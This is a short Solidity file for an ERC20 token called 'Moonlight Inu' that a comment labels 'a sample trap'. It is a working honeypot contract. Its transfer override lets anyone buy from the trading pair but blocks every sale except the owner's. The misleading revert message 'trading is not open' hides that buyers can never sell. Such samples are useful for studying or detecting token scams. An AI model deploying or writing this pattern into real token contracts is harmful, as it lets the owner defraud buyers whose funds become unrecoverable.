// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.27;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IPairFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// A sample trap: anybody can buy, only the owner can sell.
contract HoneypotToken is ERC20, Ownable {
    address public immutable pair;

    constructor(uint256 supply, IPairFactory factory, address weth)
        ERC20("Moonlight Inu", "MLINU")
        Ownable(msg.sender)
    {
        pair = factory.createPair(address(this), weth);
        _mint(msg.sender, supply);
    }

    function _update(address from, address to, uint256 value) internal override {
        require(to != pair || from == owner(), "Moonlight: trading is not open");
        super._update(from, to, value);
    }
}
